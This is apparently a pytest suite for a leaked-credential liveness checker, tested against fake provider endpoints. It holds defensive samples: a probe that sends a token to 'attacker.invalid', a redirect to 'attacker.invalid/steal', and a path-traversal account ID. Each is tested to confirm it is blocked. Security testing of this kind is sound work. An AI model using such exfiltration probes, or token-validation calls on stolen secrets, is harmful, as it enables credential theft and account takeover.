"""Each HTTP verifier against its provider's fake: live with identity, dead, rate limits, outages."""

from __future__ import annotations

import logging
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest

from secretops.liveness import RULE_VERIFIERS, VERIFIERS, Leak, Liveness, VerifyContext
from secretops.liveness._http import HttpVerifier, Probe
from secretops.liveness.interface import LivenessResult
from secretops.values import SecretValue
from tests.fakes.providers import FakeInternet
from tests.liveness.conftest import Sleeps, random_text

SID = "AC" + "0123456789abcdef" * 2
KEY_SID = "SK" + "fedcba9876543210" * 2


@dataclass(frozen=True)
class Case:
    """One provider: the rule, the fake's host, who the token is, what the identity says."""

    verifier: str
    rule: str
    host: str
    who: dict[str, Any]
    identity: str | None
    context: dict[str, str] = field(default_factory=dict)
    wrap: str = "{}"  # how the fake sees the credential (Twilio: "SID:token")


CASES = [
    Case("github", "github-personal-access-token", "api.github.com", {"login": "octocat"}, "octocat"),
    Case(
        "gitlab",
        "gitlab-personal-access-token",
        "gitlab.com",
        {"name": "ci-reader", "user_id": 7},
        "ci-reader (user 7)",
    ),
    Case("slack", "slack-bot-token", "slack.com", {"user": "deploybot", "team": "Acme"}, "deploybot in Acme"),
    Case(
        "stripe",
        "stripe-secret-key",
        "api.stripe.com",
        {"account": "acct_1Nv0FGQ9RKHgCVdK", "name": "Acme Shop", "email": "billing@acme.invalid"},
        "Acme Shop (acct_1Nv0FGQ9RKHgCVdK)",
    ),
    Case("openai", "openai-project-key", "api.openai.com", {"org": "org-acme"}, "org-acme"),
    Case("anthropic", "anthropic-api-key", "api.anthropic.com", {"org": "7c1b"}, "organization 7c1b"),
    Case("sendgrid", "sendgrid-api-key", "api.sendgrid.com", {"scopes": ["mail.send", "scopes.read"]}, None),
    Case(
        "twilio",
        "twilio-auth-token",
        "api.twilio.com",
        {"account": SID, "name": "Acme SMS"},
        f"Acme SMS ({SID})",
        context={"account_id": SID},
        wrap=SID + ":{}",
    ),
    Case(
        "digitalocean",
        "digitalocean-personal-access-token",
        "api.digitalocean.com",
        {"email": "ops@acme.invalid"},
        "ops@acme.invalid",
    ),
    Case(
        "render",
        "render-api-key",
        "api.render.com",
        {"name": "Acme", "email": "ops@acme.invalid"},
        "Acme (ops@acme.invalid)",
    ),
    Case(
        "vercel",
        "vercel-personal-token",
        "api.vercel.com",
        {"username": "acme", "email": "ops@acme.invalid"},
        "acme (ops@acme.invalid)",
    ),
    Case("heroku", "heroku-api-key", "api.heroku.com", {"email": "ops@acme.invalid"}, "ops@acme.invalid"),
    Case("npm", "npm-access-token", "registry.npmjs.org", {"username": "acme-bot"}, "acme-bot"),
    Case(
        "huggingface",
        "huggingface-access-token",
        "huggingface.co",
        {"name": "acme", "token": "ci"},
        "acme (token ci, read)",
    ),
]
IDS = [c.verifier for c in CASES]


def _leak(case: Case, token: str) -> Leak:
    return Leak(case.rule, case.verifier, "api-key", SecretValue(token), case.context)


def _run(case: Case, ctx: VerifyContext, token: str) -> LivenessResult:
    assert RULE_VERIFIERS[case.rule] == case.verifier
    return VERIFIERS[case.verifier](ctx).verify(_leak(case, token))


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_a_working_token_is_live_with_its_identity(case: Case, ctx: VerifyContext, internet: FakeInternet) -> None:
    token = random_text(40)
    internet[case.host].add(case.wrap.format(token), **case.who)
    result = _run(case, ctx, token)
    assert result.state is Liveness.LIVE, result.detail
    assert result.identity == case.identity
    assert result.verifier == case.verifier
    assert internet.hosts == [case.host] and not internet.stray


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_a_revoked_token_is_dead(case: Case, ctx: VerifyContext, internet: FakeInternet) -> None:
    token = random_text(40)
    fake = internet[case.host]
    fake.add(case.wrap.format(token), **case.who)
    fake.revoke(case.wrap.format(token))
    result = _run(case, ctx, token)
    assert result.state is Liveness.DEAD, result.detail
    assert result.identity is None
    assert token not in result.detail and token[:8] not in result.detail  # no echo of the provider's message
    assert fake.calls == 1


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_a_rate_limit_with_retry_after_is_waited_out(
    case: Case, ctx: VerifyContext, internet: FakeInternet, sleeps: Sleeps
) -> None:
    token = random_text(40)
    fake = internet[case.host]
    fake.add(case.wrap.format(token), **case.who)
    fake.rate_limited.append({"Retry-After": "3"})
    result = _run(case, ctx, token)
    assert result.state is Liveness.LIVE, result.detail
    assert sleeps == [3.0]
    assert fake.calls == 2


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_a_long_or_endless_rate_limit_is_unknown_not_dead(
    case: Case, ctx: VerifyContext, internet: FakeInternet, sleeps: Sleeps
) -> None:
    token = random_text(40)
    fake = internet[case.host]
    fake.add(case.wrap.format(token), **case.who)
    fake.rate_limited.extend([{"Retry-After": "600"}])
    result = _run(case, ctx, token)
    assert result.state is Liveness.UNKNOWN
    assert "rate limited" in result.detail
    assert sleeps == [] and fake.calls == 1
    # Rate limited on every try: retried max_retries times, then unknown.
    fake.rate_limited.extend([{"Retry-After": "1"}] * 5)
    result = _run(case, ctx, token)
    assert result.state is Liveness.UNKNOWN
    assert sleeps == [1.0, 1.0] and fake.calls == 1 + 3


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_a_rate_limit_without_retry_after_is_not_retried(
    case: Case, ctx: VerifyContext, internet: FakeInternet, sleeps: Sleeps
) -> None:
    token = random_text(40)
    fake = internet[case.host]
    fake.add(case.wrap.format(token), **case.who)
    fake.rate_limited.append({})
    result = _run(case, ctx, token)
    assert result.state is Liveness.UNKNOWN and "did not say" in result.detail
    assert sleeps == [] and fake.calls == 1


@pytest.mark.parametrize("status", [500, 502, 503])
@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_a_provider_outage_is_unknown(case: Case, status: int, ctx: VerifyContext, internet: FakeInternet) -> None:
    token = random_text(40)
    internet[case.host].add(case.wrap.format(token), **case.who)
    internet[case.host].outage = status
    result = _run(case, ctx, token)
    assert result.state is Liveness.UNKNOWN
    assert str(status) in result.detail


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_network_failures_are_unknown(case: Case, sleeps: Sleeps) -> None:
    def down(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("refused", request=request)

    def slow(request: httpx.Request) -> httpx.Response:
        raise httpx.ReadTimeout("slow", request=request)

    for handler, words in ((down, "cannot reach"), (slow, "no answer within")):
        with httpx.Client(transport=httpx.MockTransport(handler)) as client:
            ctx = VerifyContext(client=client, timeout=2.0, sleep=sleeps)
            result = _run(case, ctx, random_text(40))
        assert result.state is Liveness.UNKNOWN and words in result.detail


def test_every_http_verifier_has_a_fake_and_only_official_hosts() -> None:
    http = {vid: cls for vid, cls in VERIFIERS.items() if issubclass(cls, HttpVerifier)}
    assert set(http) == {c.verifier for c in CASES}
    for vid, cls in http.items():
        assert cls.hosts, vid
        for host in cls.hosts:
            assert host.count(".") >= 1 and not host.startswith(("localhost", "127.")), host
    # Every rule mapped to a verifier names one that exists.
    assert set(RULE_VERIFIERS.values()) <= set(VERIFIERS)


# --- provider specifics -----------------------------------------------------------------------------


def test_github_installation_token_forbidden_on_user_is_live(ctx: VerifyContext, internet: FakeInternet) -> None:
    token = random_text(36)
    internet["api.github.com"].add(token, installation=True)
    result = VERIFIERS["github"](ctx).verify(Leak("github-server-to-server-token", "github", "t", SecretValue(token)))
    assert result.state is Liveness.LIVE and "403" in result.detail


def test_github_sends_the_documented_headers(ctx: VerifyContext, internet: FakeInternet) -> None:
    token = random_text(36)
    internet["api.github.com"].add(token, login="octocat")
    VERIFIERS["github"](ctx).verify(Leak("github-personal-access-token", "github", "t", SecretValue(token)))
    request = internet["api.github.com"].requests[0]
    assert request.headers["accept"] == "application/vnd.github+json"
    assert request.headers["x-github-api-version"] == "2022-11-28"


def test_openai_without_quota_is_live(ctx: VerifyContext, internet: FakeInternet, sleeps: Sleeps) -> None:
    token = random_text(48)
    internet["api.openai.com"].add(token, org="org-acme", no_quota=True)
    result = VERIFIERS["openai"](ctx).verify(Leak("openai-project-key", "openai", "t", SecretValue(token)))
    assert result.state is Liveness.LIVE and "quota" in result.detail and sleeps == []


def test_openai_admin_key_uses_the_admin_endpoint(ctx: VerifyContext, internet: FakeInternet) -> None:
    token = random_text(48)
    internet["api.openai.com"].add(token, org="org-acme")
    result = VERIFIERS["openai"](ctx).verify(Leak("openai-admin-key", "openai", "t", SecretValue(token)))
    assert result.live
    assert internet["api.openai.com"].requests[0].url.path == "/v1/organization/projects"


def test_anthropic_sends_the_version_header_and_overload_is_unknown(ctx: VerifyContext, internet: FakeInternet) -> None:
    token = random_text(48)
    fake = internet["api.anthropic.com"]
    fake.add(token, org="7c1b")
    verifier = VERIFIERS["anthropic"](ctx)
    assert verifier.verify(Leak("anthropic-api-key", "anthropic", "t", SecretValue(token))).live
    assert fake.requests[0].headers["anthropic-version"] == "2023-06-01"
    fake.outage = 529  # overloaded_error
    assert verifier.verify(Leak("anthropic-api-key", "anthropic", "t", SecretValue(token))).state is Liveness.UNKNOWN


def test_slack_invalid_and_revoked_say_which(ctx: VerifyContext, internet: FakeInternet) -> None:
    token = random_text(40)
    fake = internet["slack.com"]
    fake.add(token, user="u", team="t")
    fake.revoke(token)
    verifier = VERIFIERS["slack"](ctx)
    assert "token_revoked" in verifier.verify(Leak("slack-bot-token", "slack", "t", SecretValue(token))).detail
    other = verifier.verify(Leak("slack-bot-token", "slack", "t", SecretValue(random_text(40))))
    assert other.state is Liveness.DEAD and "invalid_auth" in other.detail


def test_stripe_restricted_key_without_permission_is_live(ctx: VerifyContext, internet: FakeInternet) -> None:
    token = random_text(40)
    internet["api.stripe.com"].add(token, account="acct_1", restricted=True)
    result = VERIFIERS["stripe"](ctx).verify(Leak("stripe-restricted-key", "stripe", "t", SecretValue(token)))
    assert result.state is Liveness.LIVE and "403" in result.detail


def test_twilio_needs_the_account_sid_and_sends_nothing_without_it(ctx: VerifyContext, internet: FakeInternet) -> None:
    verifier = VERIFIERS["twilio"](ctx)
    for context in ({}, {"account_id": "AC../../evil"}, {"account_id": SID + "/x"}):
        result = verifier.verify(Leak("twilio-auth-token", "twilio", "t", SecretValue(random_text(32)), context))
        assert result.state is Liveness.UNKNOWN and "Account SID" in result.detail
    assert internet.hosts == []


def test_twilio_api_key_secret_authenticates_with_its_key_sid(ctx: VerifyContext, internet: FakeInternet) -> None:
    secret = random_text(32)
    internet["api.twilio.com"].add(f"{KEY_SID}:{secret}", account=SID, name="Acme")
    leak = Leak("twilio-api-key-secret", "twilio", "t", SecretValue(secret), {"account_id": SID, "api_key_id": KEY_SID})
    assert VERIFIERS["twilio"](ctx).verify(leak).live
    no_key_sid = Leak("twilio-api-key-secret", "twilio", "t", SecretValue(secret), {"account_id": SID})
    assert VERIFIERS["twilio"](ctx).verify(no_key_sid).state is Liveness.UNKNOWN


def test_twilio_closed_account_is_dead(ctx: VerifyContext, internet: FakeInternet) -> None:
    token = random_text(32)
    internet["api.twilio.com"].add(f"{SID}:{token}", account=SID, name="Old", status="closed")
    leak = Leak("twilio-auth-token", "twilio", "t", SecretValue(token), {"account_id": SID})
    assert VERIFIERS["twilio"](ctx).verify(leak).state is Liveness.DEAD


def test_gitlab_dead_verdict_names_gitlab_com(ctx: VerifyContext, internet: FakeInternet) -> None:
    result = VERIFIERS["gitlab"](ctx).verify(
        Leak("gitlab-personal-access-token", "gitlab", "t", SecretValue(random_text(20)))
    )
    assert result.state is Liveness.DEAD and "gitlab.com" in result.detail and "self-managed" in result.detail


def test_heroku_sends_the_version_3_media_type(ctx: VerifyContext, internet: FakeInternet) -> None:
    token = random_text(36)
    internet["api.heroku.com"].add(token, email="ops@acme.invalid")
    assert VERIFIERS["heroku"](ctx).verify(Leak("heroku-api-key", "heroku", "t", SecretValue(token))).live
    assert internet["api.heroku.com"].requests[0].headers["accept"] == "application/vnd.heroku+json; version=3"


def test_pypi_is_unknown_and_asks_nobody(ctx: VerifyContext, internet: FakeInternet) -> None:
    result = VERIFIERS["pypi"](ctx).verify(Leak("pypi-upload-token", "pypi", "t", SecretValue(random_text(60))))
    assert result.state is Liveness.UNKNOWN and "PyPI documents no" in result.detail
    assert internet.hosts == []


def test_a_probe_to_a_host_off_the_allowlist_is_never_sent(
    ctx: VerifyContext, internet: FakeInternet, caplog: pytest.LogCaptureFixture
) -> None:
    class Misdirected(HttpVerifier):
        id = "misdirected"
        hosts = frozenset({"api.github.com"})

        def probe(self, leak: Leak) -> Probe:
            return Probe("GET", "https://attacker.invalid/user", headers={"Authorization": leak.value.reveal()})

    class PlainHttp(Misdirected):
        def probe(self, leak: Leak) -> Probe:
            return Probe("GET", "http://api.github.com/user")

    for cls in (Misdirected, PlainHttp):
        result = cls(ctx).verify(Leak("r", "p", "k", SecretValue(random_text(20))))
        assert result.state is Liveness.UNKNOWN and "allowlist" in result.detail
    assert internet.hosts == []


def test_redirects_are_not_followed(sleeps: Sleeps) -> None:
    seen: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request.url.host)
        return httpx.Response(302, headers={"location": "https://attacker.invalid/steal"})

    with httpx.Client(transport=httpx.MockTransport(handler), follow_redirects=True) as client:
        ctx = VerifyContext(client=client, sleep=sleeps)
        result = VERIFIERS["github"](ctx).verify(Leak("github-personal-access-token", "github", "t", SecretValue("v")))
    assert result.state is Liveness.UNKNOWN and "redirect" in result.detail
    assert seen == ["api.github.com"]


def test_no_value_in_results_or_logs(
    ctx: VerifyContext, internet: FakeInternet, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    for case in CASES:
        token = random_text(40)
        internet[case.host].add(case.wrap.format(token), **case.who)
        for value in (token, random_text(40)):
            result = _run(case, ctx, value)
            assert value not in repr(result) and value not in str(result.to_dict())
            assert value not in caplog.text
